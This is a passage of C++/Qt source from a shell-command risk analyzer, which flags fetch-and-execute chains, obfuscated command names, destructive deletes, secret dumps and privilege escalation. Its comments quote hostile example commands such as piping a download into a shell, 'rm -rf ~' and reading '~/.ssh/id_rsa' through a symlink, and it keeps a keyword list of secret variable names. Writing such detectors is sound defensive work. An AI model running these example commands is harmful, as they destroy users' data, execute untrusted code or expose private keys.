    if (program == u"cat" || program == u"seq") {
        bool sawOperand = false;
        bool allEndless = true;
        for (qsizetype i = 1; i < args.size(); ++i) {
            const QString &value = args[i].value;
            if (isOption(value) && value != u"-")
                continue;
            sawOperand = true;
            allEndless = allEndless
                         && (program == u"seq" ? (value == u"inf" || value == u"infinity")
                                               : (value == u"/dev/zero" || value == u"/dev/urandom" || value == u"/dev/random"));
        }
        endless = sawOperand && allEndless;
    }
    if (!endless)
        return;
    for (const Redirect &redirect : node.redirects) {
        if (!writesStdout(redirect))
            continue;
        const WordValue target = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
        if (target.isStatic && m_guard.classify(target.value, context.cwd).zone == PathZone::Harmless)
            continue;
        add(QStringLiteral("resource_exhaustion"), Verdict::RequiresApproval, RiskLevel::Medium, node.span, program, context);
        return;
    }
}

namespace {

// declare -n r=c (also local/typeset): r names the variable c, its value is not the text "c".
bool isNameReference(const QString &builtin, const QList<Arg> &args)
{
    if (builtin == u"export" || builtin == u"readonly")
        return false;
    for (const Arg &arg : args) {
        if (arg.value.size() > 1 && arg.value.startsWith(u'-') && !arg.value.startsWith(u"--") && arg.value.contains(u'n'))
            return true;
    }
    return false;
}

} // namespace

Taint Analyzer::judgeDynamicName(const QList<Arg> &args, AnalysisContext &context, SourceSpan span)
{
    const Arg &first = args.front();
    Taint taint = first.taint;
    taint.any = true;
    if (first.taint.network || first.taint.decoded) {
        add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, first.span, first.raw, context);
        return taint;
    }
    // curl URL | "$SHELL": a program nobody can name reading downloaded data may run it.
    if (stdinIsFetched(context)) {
        add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, first.span, first.raw, context);
        return taint;
    }
    // "$SHELL" -c 'rm -rf ~': the name is probably a shell; judge the text it would run.
    if (args.size() > 2 && args[1].info.isStatic && args[1].value.size() > 1 && args[1].value.startsWith(u'-')
        && !args[1].value.startsWith(u"--") && args[1].value.contains(u'c')) {
        const Arg &text = args[2];
        if (text.taint.network || text.taint.decoded) {
            add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, text.span, text.raw, context);
            return taint;
        }
        if (text.info.isStatic && parseShell(text.value).ok()) {
            add(QStringLiteral("dynamic_command_name"), Verdict::RequiresApproval, RiskLevel::Medium, first.span, first.raw, context);
            taint |= judgeShellText(text.value, text.span, context, first.raw);
            return taint;
        }
    }
    // "$SHELL" <<< 'rm -rf ~', echo '...' | $SHELL: a bare dynamic name reading static text is probably a shell.
    if (args.size() == 1 && context.input.kind != StdinKind::Inherited && context.input.kind != StdinKind::File
        && context.input.textStatic && !context.input.text.trimmed().isEmpty() && parseShell(context.input.text).ok()) {
        add(QStringLiteral("dynamic_command_name"), Verdict::RequiresApproval, RiskLevel::Medium, first.span, first.raw, context);
        AnalysisContext inner = context;
        inner.input = StdinSource{};
        taint |= judgeShellText(context.input.text, first.span, inner, first.raw);
        return taint;
    }
    // What the name probably is: the resolver's guess, and any program named inside the word.
    QStringList guesses;
    const QString guess = first.value.trimmed();
    if (!guess.isEmpty())
        guesses << baseName(guess.section(QRegularExpression(QStringLiteral("\\s+")), 0, 0));
    static thread_local const QRegularExpression tokenPattern(QStringLiteral("[A-Za-z0-9_.+-]+"));
    auto it = tokenPattern.globalMatch(first.raw);
    while (it.hasNext())
        guesses << it.next().captured(0);
    bool dangerous = first.info.ifs || first.info.encoded;
    QString shown = first.raw;
    QString knownGuess;
    for (const QString &candidate : std::as_const(guesses)) {
        bool folded = false;
        const QString name = baseName(foldLookalikes(candidate, &folded).toLower());
        if (isHighlyDangerous(name)) {
            dangerous = true;
            shown = name;
            break;
        }
        if (knownGuess.isEmpty() && isKnownProgram(name) && name != u"echo" && name != u"which" && name != u"printf"
            && name != u"command" && name != u"type")
            knownGuess = name;
    }
    if (!dangerous) {
        // Arguments that would be catastrophic for a delete make the guess irrelevant.
        for (qsizetype i = 1; i < args.size(); ++i) {
            const Arg &arg = args[i];
            if (arg.isDynamic() || !looksLikePath(arg.value))
                continue;
            const PathInfo info = m_guard.classify(arg.info.glob ? globStandIn(arg.value) : arg.value, context.cwd);
            if (info.zone == PathZone::WorkspaceRoot || info.home || info.filesystemRoot || info.secret || info.persistence
                || info.zone == PathZone::BlockDevice) {
                dangerous = true;
                break;
            }
        }
    }
    if (dangerous) {
        add(QStringLiteral("obfuscated_command"), Verdict::Deny, RiskLevel::High, first.span, shown, context);
        return taint;
    }
    add(QStringLiteral("dynamic_command_name"), Verdict::RequiresApproval, RiskLevel::Medium, first.span, first.raw, context);
    if (!knownGuess.isEmpty() && context.depth < m_rules.maxWrapperDepth) {
        // $(which python3) -m pytest: judge the arguments as the program it most likely is.
        QList<Arg> guessed = args;
        guessed.front().value = knownGuess;
        guessed.front().info = WordValue{};
        guessed.front().info.value = knownGuess;
        AnalysisContext inner = context;
        inner.depth = context.depth + 1;
        taint |= judgeCommand(std::move(guessed), inner, span);
        return taint;
    }
    if (args.size() > 1)
        judgeOperands(QString(), nullptr, OperandRole::Path, args, context, span, taint);
    return taint;
}

Taint Analyzer::judgeCommand(QList<Arg> args, AnalysisContext &context, SourceSpan span)
{
    Taint taint;
    taint.any = true;
    if (args.isEmpty())
        return taint;
    const SourceSpan commandSpan = coverArgs(args, span);
    if (context.depth > m_rules.maxWrapperDepth) {
        add(QStringLiteral("wrapper_depth_exceeded"), Verdict::RequiresApproval, RiskLevel::High, commandSpan, args.front().value, context);
        return taint;
    }
    Arg &first = args.front();
    for (const Arg &arg : std::as_const(args))
        taint |= arg.taint;
    if (!first.info.isStatic || first.info.glob || (first.info.brace && first.alternatives.size() > 1) || first.value.isEmpty())
        return judgeDynamicName(args, context, commandSpan);

    bool folded = false;
    QString name = foldLookalikes(first.value, &folded);
    const bool obfuscated = folded || first.info.invisible || first.info.quoteSplit || first.info.encoded;
    judgeDatabaseTask(args, commandSpan, context);

    if (name.contains(u'/')) {
        const QString dir = QDir::cleanPath(name.left(name.lastIndexOf(u'/')));
        if (m_rules.standardBinDirs.contains(dir.isEmpty() ? QStringLiteral("/") : dir)) {
            name = baseName(name);
        } else {
            const PathInfo info = m_guard.classify(name, context.cwd);
            if ((info.zone == PathZone::Inside || info.zone == PathZone::WorkspaceRoot) && isFetchedFile(first, context)) {
                // curl -o tools/x URL && chmod +x tools/x && ./tools/x
                add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, first.span, name, context);
                return taint;
            }
            if (info.zone == PathZone::Inside || info.zone == PathZone::WorkspaceRoot) {
                add(QStringLiteral("project_script"), Verdict::Allow, RiskLevel::Medium, commandSpan, name, context);
                const auto written = m_writtenScripts.constFind(m_guard.absolute(name, context.cwd));
                if (written != m_writtenScripts.constEnd())
                    taint |= judgeShellText(written.value(), first.span, context, name);
                judgeGeneratedScript(name, first.span, context);
                judgeOperands(name, nullptr, OperandRole::Path, args, context, commandSpan, taint);
                if (context.input.kind == StdinKind::Pipe && (context.input.taint.network || context.input.taint.decoded)) {
                    // A project script fed with downloaded data is not fetch-and-execute by itself.
                }
                return taint;
            }
            if (info.zone == PathZone::ToolCache) {
                add(QStringLiteral("standard_dev_command"), Verdict::Allow, RiskLevel::Medium, commandSpan, baseName(name), context);
                judgeOperands(name, nullptr, OperandRole::Path, args, context, commandSpan, taint);
                return taint;
            }
            const QString base = baseName(name);
            if (isDangerousProgram(base)) {
                // /tmp/rm or ~/bin/sudo: judge as the program it is named after, and flag the path.
                name = base;
            } else {
                add(QStringLiteral("path_outside_workspace"), Verdict::RequiresApproval, RiskLevel::Medium, first.span, name, context);
                add(QStringLiteral("unknown_command"), Verdict::RequiresApproval, RiskLevel::Medium, commandSpan, name, context);
                taint.outside = true;
                judgeOperands(name, nullptr, OperandRole::Path, args, context, commandSpan, taint);
                return taint;
            }
        }
    }

    if (m_functions.contains(name) && !obfuscated)
        return taint; // judged where it was defined

    if (!isKnownProgram(name) && isKnownProgram(name.toLower())) {
        // The shell runs "GIT", not git; only judge it as the lower-case program when that is
        // stricter (case-insensitive filesystems would run it).
        if (isDangerousProgram(name.toLower()) || isHighlyDangerous(name.toLower()))
            name = name.toLower();
    }
    if (first.info.fromVariable && !obfuscated) {
        // X=rm; $X -rf build: a variable that spells a dangerous program hides it.
        const ProgramClass hidden = m_rules.programClass(name);
        if (hidden == ProgramClass::Destructive || hidden == ProgramClass::Privileged || hidden == ProgramClass::Blocked
            || hidden == ProgramClass::Network || hidden == ProgramClass::Eval)
            add(QStringLiteral("obfuscated_command"), Verdict::Deny, RiskLevel::High, first.span, name, context);
    }
    if (obfuscated) {
        // Split quoting and encodings still run the named program: only hiding danger is denied.
        // Look-alike or invisible characters run a different program than the one it looks like.
        const bool disguised = folded || first.info.invisible;
        const bool dangerous = isDangerousProgram(name) || isHighlyDangerous(name) || isDangerousProgram(name.toLower())
                               || (disguised && isKnownProgram(name));
        if (dangerous)
            add(QStringLiteral("obfuscated_command"), Verdict::Deny, RiskLevel::High, first.span, name, context);
        else if (disguised || !isKnownProgram(name))
            add(QStringLiteral("obfuscated_command"), Verdict::RequiresApproval, RiskLevel::Medium, first.span, first.value, context);
    }
    if (isDecoder(name, args))
        taint.decoded = true;
    first.value = name;
    if (name == u"tee" && (stdinIsFetched(context) || readsFetchedFile({first}, context))) {
        // curl URL | tee f; sh f: the files tee writes hold the download, like curl -o f.
        for (qsizetype i = 1; i < args.size(); ++i) {
            if (!isOption(args[i].value) && !args[i].isDynamic())
                m_fetchedFiles.insert(m_guard.absolute(args[i].value, context.cwd));
        }
    }

    applyOverlayRules(name, args, commandSpan, context);
    judgeSecretUpload(name, args, context, commandSpan);

    const ProgramClass cls = m_rules.programClass(name);
    if (name == u"ssh-keygen")
        judgeDefaultKeyFile(args, context, commandSpan);
    if (const WrapperRule *wrapper = m_rules.wrapper(name); wrapper && cls != ProgramClass::Blocked) {
        if (cls == ProgramClass::Privileged)
            add(QStringLiteral("privileged_command"), Verdict::Deny, RiskLevel::High, commandSpan, name, context);
        return taint | judgeWrapper(name, *wrapper, args, context, commandSpan);
    }
    if (const SubcommandRule *rule = m_rules.subcommands(name); rule && cls != ProgramClass::Blocked && cls != ProgramClass::Privileged)
        return taint | judgeSubcommands(name, *rule, args, context, commandSpan);

    const ProgramOptions *options = m_rules.programOptions(name);
    switch (cls) {
    case ProgramClass::Read: {
        if (isDecoder(name, args))
            taint.decoded = true;
        bool writes = false;
        if (options) {
            for (qsizetype i = 1; i < args.size(); ++i) {
                const QString &value = args[i].value;
                for (const QString &option : options->overwriteOptions) {
                    if (value == option || (value.startsWith(option) && (option.startsWith(u"--") ? value.startsWith(option + u'=') : option.size() == 2)))
                        writes = true;
                }
                if (options->execOptions.contains(optionName(value)))
                    add(QStringLiteral("execute_option"), Verdict::RequiresApproval, RiskLevel::Medium, args[i].span, optionName(value), context);
            }
        }
        if ((name == u"awk" || name == u"gawk") && args.size() > 2) {
            for (qsizetype i = 1; i + 1 < args.size(); ++i) {
                if (args[i].value == u"-i" && args[i + 1].value == u"inplace")
                    writes = true;
            }
        }
        addOutcome(writes ? QStringLiteral("write") : QStringLiteral("read"), commandSpan, name, context);
        if (name == u"find") {
            taint.listing = true;
            taint.diskListing = true;
            judgeFind(args, context, commandSpan, taint);
            return taint;
        }
        if (name == u"ls" || name == u"fd" || name == u"fdfind" || name == u"locate") {
            taint.listing = true;
            taint.diskListing = true;
        } else if (name == u"grep" || name == u"rg" || name == u"egrep" || name == u"ag") {
            for (const Arg &arg : std::as_const(args)) {
                if (printsFileNames(name, arg.value)) {
                    taint.listing = true;
                    taint.diskListing = true;
                }
            }
        }
        if (!writes && readsFetchedFile(args, context))
            taint.network = true;
        if (name == u"basename" || name == u"dirname")
            return taint; // string operations on the names: no file is touched
        const bool namesOnly = !writes && (name == u"ls" || name == u"stat" || name == u"du" || name == u"tree" || name == u"realpath"
                                           || name == u"readlink" || name == u"namei");
        const bool wasNamesOnly = std::exchange(m_listingNamesOnly, namesOnly);
        judgeOperands(name, options, writes ? OperandRole::Overwrite : OperandRole::Read, args, context, commandSpan, taint);
        m_listingNamesOnly = wasNamesOnly;
        return taint;
    }
    case ProgramClass::Query: {
        addOutcome(QStringLiteral("query"), commandSpan, name, context);
        if (name == u"cd" || name == u"pushd" || name == u"popd") {
            judgeCd(args, context, commandSpan);
            return taint;
        }
        // set -x turns on tracing and set -p privileged mode: only a bare `set` prints the variables.
        if (name == u"printenv" || ((name == u"export" || name == u"declare" || name == u"typeset" || name == u"set" || name == u"env")
                                    && (args.size() == 1
                                        || (name != u"set" && args.size() == 2 && (args[1].value == u"-p" || args[1].value == u"-x"))))) {
            addOutcome(QStringLiteral("env_dump"), commandSpan, name, context);
            taint.envDump = true;
            return taint;
        }
        if (name == u"export" || name == u"declare" || name == u"typeset" || name == u"local" || name == u"readonly") {
            for (qsizetype i = 1; i < args.size(); ++i) {
                const QString &value = args[i].value;
                const qsizetype eq = value.indexOf(u'=');
                if (eq <= 0 || isOption(value))
                    continue;
                const QString variable = value.left(eq);
                WordValue assigned = args[i].info;
                assigned.value = value.mid(eq + 1);
                Word empty;
                checkEnvAssignment(variable, empty, assigned, args[i].span, context);
                if (assigned.isStatic && !isNameReference(name, args))
                    m_variables.insert(variable, assigned.value);
                else
                    m_variables.remove(variable);
            }
            return taint;
        }
        if (name == u"ps" && args.size() > 1 && !args[1].value.startsWith(u'-') && args[1].value.contains(u'e')) {
            // BSD-style `ps e`, `ps auxe`, `ps eww`: every listed process's environment is printed.
            addOutcome(QStringLiteral("env_dump"), commandSpan, QStringLiteral("ps ") + args[1].value, context);
            taint.envDump = true;
            return taint;
        }
        if (name == u"echo" || name == u"printf") {
            // echo "$GITHUB_TOKEN": a secret-named variable printed into the audited output (or a pipe).
            static const QSet<QString> secretWords = {QStringLiteral("KEY"), QStringLiteral("TOKEN"), QStringLiteral("SECRET"),
                                                      QStringLiteral("PASSWORD"), QStringLiteral("PASSWD"), QStringLiteral("PASS"),
                                                      QStringLiteral("CREDENTIAL"), QStringLiteral("CREDENTIALS"), QStringLiteral("PRIVATE"),
                                                      QStringLiteral("COOKIE"), QStringLiteral("DSN"), QStringLiteral("APIKEY")};
            for (qsizetype i = 1; i < args.size(); ++i) {
                bool secretVariable = false;
                for (const QString &parameter : args[i].parameters) {
                    const QString upper = parameter.toUpper();
                    for (const QString &word : upper.split(u'_', Qt::SkipEmptyParts))
                        secretVariable = secretVariable || secretWords.contains(word);
                    secretVariable = secretVariable || upper.contains(QLatin1String("DATABASE_URL"));
                }
                // echo "$v=${!v}" over compgen -v: an indirect expansion prints whichever variable v names.
                static thread_local const QRegularExpression indirect(QStringLiteral("\\$\\{![A-Za-z_][A-Za-z0-9_]*\\}"));
                secretVariable = secretVariable || args[i].raw.contains(indirect);
                if (secretVariable) {
                    add(QStringLiteral("environment_dump"), Verdict::RequiresApproval, RiskLevel::Medium, args[i].span, args[i].raw, context);
                    taint.envDump = true;
                }
            }
        }
        if (name == u"set" && args.size() > 1 && (args[1].value == u"--" || !isOption(args[1].value))) {
            // set -- rm -rf ~: the positional parameters, for a later "$@".
            QStringList words;
            bool known = true;
            for (qsizetype i = args[1].value == u"--" ? 2 : 1; i < args.size(); ++i) {
                known = known && args[i].info.isStatic;
                words << args[i].value;
            }
            if (known)
                m_arrays.insert(QStringLiteral("@"), words);
            else
                m_arrays.remove(QStringLiteral("@"));
        }
        if (name == u"trap" && args.size() > 1) {
            if (args[1].info.isStatic)
                taint |= judgeShellText(args[1].value, args[1].span, context, name);
            else
                add(QStringLiteral("eval_command"), Verdict::RequiresApproval, RiskLevel::Medium, args[1].span, name, context);
            return taint;
        }
        if (name == u"alias" && args.size() > 1) {
            for (qsizetype i = 1; i < args.size(); ++i) {
                const qsizetype eq = args[i].value.indexOf(u'=');
                if (eq > 0)
                    taint |= judgeShellText(args[i].value.mid(eq + 1), args[i].span, context, name);
            }
            return taint;
        }
        judgeOperands(name, options, options && options->operandsSet ? options->operands : OperandRole::Read, args, context, commandSpan, taint);
        return taint;
    }
    case ProgramClass::Dev:
    case ProgramClass::Write: {
        QString outcome = cls == ProgramClass::Dev ? QStringLiteral("dev") : QStringLiteral("write");
        if (options && !options->outcome.isEmpty())
            outcome = options->outcome;
        bool deletes = false;
        if (name == u"code" || name == u"codium" || name == u"cursor") {
            // code --install-extension X.vsix: an extension installed for every workspace, run by the editor.
            for (qsizetype i = 1; i < args.size(); ++i) {
                if (args[i].value == u"--install-extension" || args[i].value == u"--uninstall-extension")
                    outcome = QStringLiteral("global_install");
            }
        }
        if (name == u"rsync") {
            for (qsizetype i = 1; i < args.size(); ++i) {
                const QString &value = args[i].value;
                if (!isOption(value) && value.contains(u':') && !value.startsWith(u'/') && !value.startsWith(u'.'))
                    outcome = QStringLiteral("network");
                // --delete, --delete-after, --del, --remove-source-files: files go away, not only get written.
                if (value.startsWith(u"--del") || value == u"--remove-source-files")
                    deletes = true;
            }
        }
        if (name == u"install") {
            for (qsizetype i = 1; i + 1 < args.size(); ++i) {
                const QString &value = args[i].value;
                QString mode;
                if (value == u"-m" || value == u"--mode")
                    mode = args[i + 1].value;
                else if (value.startsWith(u"--mode="))
                    mode = value.mid(7);
                else if (value.startsWith(u"-m") && !value.startsWith(u"--"))
                    mode = value.mid(2);
                if (!mode.isEmpty() && setsIdBits(mode))
                    add(QStringLiteral("privilege_escalation"), Verdict::Deny, RiskLevel::High, args[i].span, QStringLiteral("install -m ") + mode, context);
            }
        }
        if (name == u"cp") {
            // cp /dev/null FILE truncates FILE, like `> FILE`.
            for (qsizetype i = 1; i < args.size(); ++i) {
                if (args[i].info.isStatic && args[i].value == u"/dev/null")
                    deletes = true;
            }
        }
        if (deletes && outcome == u"write")
            outcome = QStringLiteral("destructive");
        if (outcome == u"dev" && installsOutsideWorkspace(name, args, context))
            outcome = QStringLiteral("global_install");
        if (name == u"make" || name == u"gmake")
            judgeMakeAssignments(args, context);
        if (name == u"tar") {
            judgeTar(args, context, commandSpan, taint);
            return taint;
        }
        if (name == u"unzip") {
            for (qsizetype i = 1; i < args.size(); ++i) {
                const Arg &arg = args[i];
                if (arg.value == u"-l" || arg.value == u"-t" || arg.value == u"-v" || arg.value == u"-Z" || arg.value == u"-p")
                    outcome = QStringLiteral("read");
                // unzip x.zip -d ~: the archive chooses which startup files are replaced.
                if (arg.value == u"-d" && i + 1 < args.size() && !args[i + 1].isDynamic() && holdsPersistence(args[i + 1].value, context))
                    add(QStringLiteral("persistence"), Verdict::Deny, RiskLevel::High, args[i + 1].span, args[i + 1].value, context);
            }
        }
        addOutcome(outcome, commandSpan, name, context);
        if (name == u"ln") {
            // ln [-s] TARGET [LINK]: the link name is written; a target outside is flagged.
            QList<Arg> operands;
            bool symbolic = false;
            for (qsizetype i = 1; i < args.size(); ++i) {
                const QString &value = args[i].value;
                if (isOption(value)) {
                    if (value.startsWith(u"--symbolic") || (!value.startsWith(u"--") && value.contains(u's')))
                        symbolic = true;
                    continue;
                }
                operands << args[i];
            }
            if (!operands.isEmpty()) {
                const Arg &target = operands.front();
                if (target.isDynamic()) {
                    add(QStringLiteral("dynamic_argument"), Verdict::RequiresApproval, RiskLevel::Medium, target.span, target.raw, context);
                } else {
                    const QString linkDir = operands.size() > 1 && !operands.back().isDynamic()
                                                ? QFileInfo(m_guard.absolute(operands.back().value, context.cwd)).path()
                                                : (context.cwd.isEmpty() ? m_guard.workspace() : context.cwd);
                    const PathInfo info = m_guard.classify(target.value, symbolic ? linkDir : context.cwd);
                    if (info.zone != PathZone::Inside && info.zone != PathZone::WorkspaceRoot && info.zone != PathZone::Harmless)
                        add(QStringLiteral("symlink_outside_workspace"), Verdict::RequiresApproval, RiskLevel::Medium, target.span, target.value, context);
                    // ln -s ~/.ssh/id_rsa build/k && cat build/k: the link does not exist yet when the command is
                    // judged, so reads through it later in the command are matched against it here.
                    if (info.secret) {
                        const QString link = operands.size() > 1 && !operands.back().isDynamic()
                                                 ? m_guard.absolute(operands.back().value, context.cwd)
                                                 : m_guard.absolute(baseName(target.value), context.cwd);
                        m_secretLinks.insert(QFileInfo(link).isDir() ? link + u'/' + baseName(target.value) : link);
                    }
                }
                if (operands.size() > 1) {
                    checkPath(operands.back(), operands.back().value, OperandRole::Write, context, taint, false);
                    carryFetchedFiles(operands.mid(0, operands.size() - 1), {operands.back()}, context);
                }
            }
            return taint;
        }
        const OperandRole role = options && options->operandsSet ? options->operands
                                 : (cls == ProgramClass::Write ? OperandRole::Write : OperandRole::Path);
        if (role == OperandRole::Path) {
            // Build, test and format tools may rewrite the files they are given (black, clang-format -i):
            // targets xargs supplies are write targets, judged by where they come from (B9).
            for (const Arg &arg : std::as_const(args)) {
                if (arg.fromXargs) {
                    checkPath(arg, arg.value, OperandRole::Modify, context, taint, false);
                    break;
                }
            }
        }
        judgeOperands(name, options, role, args, context, commandSpan, taint);
        if (taint.secret && (name == u"cp" || name == u"mv" || name == u"install" || name == u"rsync"))
            recordSecretCopy(args, context);
        return taint;
    }
    case ProgramClass::Destructive:
        if (name == u"chmod" || name == u"chown" || name == u"chgrp") {
            judgeChmod(name, args, context, commandSpan, taint);
            return taint;
        }
        addOutcome(QStringLiteral("destructive"), commandSpan, name, context);
        if (name == u"dd") {
            judgeDd(args, context, commandSpan, taint);
            return taint;
        }
        judgeOperands(name, options, options && options->operandsSet ? options->operands : OperandRole::Delete, args, context,
                      commandSpan, taint);
        return taint;
    case ProgramClass::Network:
        return taint | judgeNetwork(name, args, context, commandSpan);
    case ProgramClass::Privileged:
        addOutcome(QStringLiteral("privileged"), commandSpan, name, context);
        add(QStringLiteral("privileged_command"), Verdict::Deny, RiskLevel::High, commandSpan, name, context);
        return taint;
    case ProgramClass::Blocked:
        addOutcome(QStringLiteral("blocked"), commandSpan, name, context);
        if (const WrapperRule *wrapper = m_rules.wrapper(name))
            taint |= judgeWrapper(name, *wrapper, args, context, commandSpan);
        return taint;
    case ProgramClass::Interpreter:
        return taint | judgeInterpreter(name, args, context, commandSpan);
    case ProgramClass::Shell:
        return taint | judgeShell(name, args, context, commandSpan);
    case ProgramClass::ProcessControl:
        addOutcome(QStringLiteral("process_kill"), commandSpan, name, context);
        if (name == u"kill")
            judgeKillTargets(args, context);
        return taint;
    case ProgramClass::Background:
        m_background = true;
        addOutcome(QStringLiteral("background"), commandSpan, name, context);
        // What tmux, screen or at run later is still a command: a detached `rm -rf /` is as destructive.
        return taint | judgeDetachedCommand(name, args, context, commandSpan);
    case ProgramClass::PackageRunner: {
        // npx tsc: a binary the project already installed runs like a project script.
        QString package;
        for (qsizetype i = 1; i < args.size(); ++i) {
            if (!args[i].value.startsWith(u'-')) {
                package = args[i].value;
                break;
            }
        }
        const bool nodeRunner = name == u"npx" || name == u"pnpx" || name == u"bunx";
        const QString base = context.cwd.isEmpty() ? m_guard.workspace() : context.cwd;
        const bool installed = nodeRunner && !package.isEmpty() && !package.contains(u'@') && !package.contains(u'/')
                               && (QFileInfo::exists(base + QStringLiteral("/node_modules/.bin/") + package)
                                   || QFileInfo::exists(m_guard.workspace() + QStringLiteral("/node_modules/.bin/") + package));
        addOutcome(installed ? QStringLiteral("dev") : QStringLiteral("package_runner"), commandSpan, name + u' ' + package, context);
        judgeOperands(name, options, OperandRole::Path, args, context, commandSpan, taint);
        return taint;
    }
    case ProgramClass::Eval: {
        QStringList pieces;
        bool allStatic = true;
        Taint argTaint;
        for (qsizetype i = 1; i < args.size(); ++i) {
            pieces << args[i].value;
            allStatic = allStatic && args[i].info.isStatic;
            argTaint |= args[i].taint;
        }
        if (argTaint.network || argTaint.decoded) {
            add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, commandSpan, name, context);
            return taint;
        }
        addOutcome(QStringLiteral("eval"), commandSpan, name, context);
        if (args.size() > 1) {
            if (allStatic)
                taint |= judgeShellText(pieces.join(u' '), coverArgs(args.mid(1), commandSpan), context, name);
            else
                add(QStringLiteral("dynamic_argument"), Verdict::RequiresApproval, RiskLevel::Medium, coverArgs(args.mid(1), commandSpan),
                    args[1].raw, context);
        }
        return taint;
    }
    case ProgramClass::Source: {
        if (args.size() < 2) {
            addOutcome(QStringLiteral("eval"), commandSpan, name, context);
            return taint;
        }
        const Arg &script = args[1];
        if (script.taint.network || script.taint.decoded || isFetchedFile(script, context)) {
            add(QStringLiteral("fetch_and_execute"), Verdict::Deny, RiskLevel::High, script.span, script.raw, context);
            return taint;
        }
        if (script.info.processSubstitution) {
            add(QStringLiteral("eval_command"), Verdict::RequiresApproval, RiskLevel::Medium, script.span, script.raw, context);
            QString text;
            if (processSubstitutionText(script, context, &text))
                taint |= judgeShellText(text, script.span, context, name);
            return taint;
        }
        if (script.value == u"/dev/stdin" || script.value == u"/dev/fd/0" || script.value == u"/proc/self/fd/0") {
            add(QStringLiteral("eval_command"), Verdict::RequiresApproval, RiskLevel::Medium, script.span, script.raw, context);
            return taint | judgeStdinCode(name, true, context, commandSpan);
        }
        if (script.isDynamic()) {
            add(QStringLiteral("dynamic_argument"), Verdict::RequiresApproval, RiskLevel::Medium, script.span, script.raw, context);
            return taint;
        }
        const auto written = m_writtenScripts.constFind(m_guard.absolute(script.value, context.cwd));
        if (written != m_writtenScripts.constEnd())
            taint |= judgeShellText(written.value(), script.span, context, name);
        judgeGeneratedScript(script.value, script.span, context);
        const PathInfo info = m_guard.classify(script.value, context.cwd);
        if (info.zone == PathZone::Inside) {
            add(QStringLiteral("project_script"), Verdict::Allow, RiskLevel::Medium, commandSpan, script.value, context);
            checkPath(script, script.value, OperandRole::Read, context, taint, false);
        } else {
            add(QStringLiteral("eval_command"), Verdict::RequiresApproval, RiskLevel::Medium, commandSpan, name + u' ' + script.value, context);
            checkPath(script, script.value, OperandRole::Read, context, taint, false);
        }
        return taint;
    }
    case ProgramClass::Exec:
    case ProgramClass::Unknown:
        break;
    }
    addOutcome(QStringLiteral("unknown"), commandSpan, name, context);
    // An unclassified program may still say what its operands are (ssh-add KEY uses a key, not reads it out).
    judgeOperands(name, options, options && options->operandsSet ? options->operands : OperandRole::Path, args, context, commandSpan,
                  taint);
    return taint;
}

namespace {

// The escapes printf and echo -e interpret (\n, \t, \\, \xHH, \0NNN): what the shell would then read.
QString interpretEscapes(const QString &text)
{
    QString out;
    for (qsizetype i = 0; i < text.size(); ++i) {
        if (text[i] != u'\\' || i + 1 >= text.size()) {
            out += text[i];
            continue;
        }
        const QChar c = text[++i];
        if (c == u'n') {
            out += u'\n';
        } else if (c == u't') {
            out += u'\t';
        } else if (c == u'\\') {
            out += u'\\';
        } else if (c == u'x') {
            qsizetype end = i + 1;
            while (end < text.size() && end < i + 3 && isxdigit(text[end].toLatin1()))
                ++end;
            out += QChar(text.mid(i + 1, end - i - 1).toUShort(nullptr, 16));
            i = end - 1;
        } else if (c.isDigit() && c < u'8') {
            qsizetype end = i + (c == u'0' ? 1 : 0);
            const qsizetype limit = end + 3;
            while (end < text.size() && end < limit && text[end] >= u'0' && text[end] <= u'7')
                ++end;
            out += QChar(text.mid(i, end - i).toUShort(nullptr, 8));
            i = end - 1;
        } else {
            out += u'\\';
            out += c;
        }
    }
    return out;
}

} // namespace

bool Analyzer::staticOutputText(const Node &node, const AnalysisContext &context, QString *text) const
{
    // echo/printf with static words, or cat of a static here-document or here-string: what the command
    // prints is known, so a shell reading it (| bash, > f; sh f, source <(...)) can be judged.
    if (node.kind != NodeKind::Simple || node.words.empty())
        return false;
    // Asked for every simple command: look at the program before resolving the other words.
    const WordValue first = resolveWord(node.words.front(), ResolveContext{m_home, context.cwd, &m_variables});
    if (!first.isStatic || (first.value != u"cat" && first.value != u"echo" && first.value != u"printf"))
        return false;
    QStringList words;
    for (const Word &word : node.words) {
        const WordValue value = resolveWord(word, ResolveContext{m_home, context.cwd, &m_variables});
        if (!value.isStatic || value.glob)
            return false;
        words << value.value;
    }
    const QString program = words.takeFirst();
    QString hereText;
    bool hereInput = false;
    for (const Redirect &redirect : node.redirects) {
        if (redirect.op == u"<<" || redirect.op == u"<<-") {
            if (!redirect.hereDoc || (!redirect.hereDoc->quoted && (redirect.hereDoc->body.contains(u'$') || redirect.hereDoc->body.contains(u'`'))))
                return false;
            hereText = redirect.hereDoc->body;
            hereInput = true;
        } else if (redirect.op == u"<<<") {
            const WordValue value = resolveWord(redirect.target, ResolveContext{m_home, context.cwd, &m_variables});
            if (!value.isStatic)
                return false;
            hereText = value.value + u'\n';
            hereInput = true;
        } else if (redirect.op.startsWith(u'<')) {
            return false;
        }
    }
    if (program == u"cat") {
        if (!hereInput || !(words.isEmpty() || (words.size() == 1 && words.front() == u"-")))
            return false;
        *text = hereText;
        return true;
    }
    if (program == u"echo") {
        bool escapes = false;
        while (!words.isEmpty() && words.front().size() > 1 && words.front().startsWith(u'-')
               && QStringView(words.front()).mid(1).toString().remove(u'n').remove(u'e').remove(u'E').isEmpty()) {
            escapes = escapes || words.front().contains(u'e');
            words.removeFirst();
        }
        const QString joined = words.join(u' ');
        *text = escapes ? interpretEscapes(joined) : joined;
        return true;
    }
    if (program == u"printf" && !words.isEmpty() && words.front() != u"-v") {
        QString format = interpretEscapes(words.takeFirst());
        QString out;
        for (qsizetype i = 0; i < format.size(); ++i) {
            if (format[i] == u'%' && i + 1 < format.size()) {
                const QChar spec = format[++i];
                if (spec == u'%')
                    out += u'%';
                else if (spec == u's')
                    out += words.isEmpty() ? QString() : words.takeFirst();
                else if (spec == u'b')
                    out += words.isEmpty() ? QString() : interpretEscapes(words.takeFirst());
                else
                    return false;
            } else {
                out += format[i];
            }
        }
        *text = out;
        return true;
    }
    return false;
}

bool Analyzer::processSubstitutionText(const Arg &arg, const AnalysisContext &context, QString *text) const
{
